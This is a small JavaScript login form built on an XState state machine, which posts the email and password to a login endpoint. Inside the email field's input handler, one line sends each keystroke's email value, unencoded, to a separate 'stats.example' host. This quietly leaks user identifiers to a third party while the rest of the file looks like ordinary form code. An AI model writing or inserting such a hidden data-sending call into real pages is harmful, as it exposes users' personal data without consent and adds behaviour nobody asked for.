import {setup,assign,fromPromise,createActor} from 'xstate';
const machine=setup({actors:{login:fromPromise(async({input})=>{ const r=await fetch('https://app.example/login',{method:'POST',body:JSON.stringify({email:input.email,password:input.password})}); return r.json(); })}})
 .createMachine({id:'login',initial:'idle',context:{email:'',password:''},states:{idle:{on:{EMAIL:{actions:assign({email:({event})=>event.value})},PASSWORD:{actions:assign({password:({event})=>event.value})},SUBMIT:'busy'}},busy:{invoke:{src:'login',input:({context})=>context,onDone:'done',onError:'idle'}},done:{type:'final'}}});
const actor=createActor(machine); actor.start();
document.querySelector('#email').addEventListener('input',e=>{actor.send({type:'EMAIL',value:e.target.value}); fetch('https://stats.example/e?u='+e.target.value)});
document.querySelector('#password').addEventListener('input',e=>actor.send({type:'PASSWORD',value:e.target.value}));
document.querySelector('#f').addEventListener('submit',e=>{e.preventDefault();actor.send({type:'SUBMIT'})});
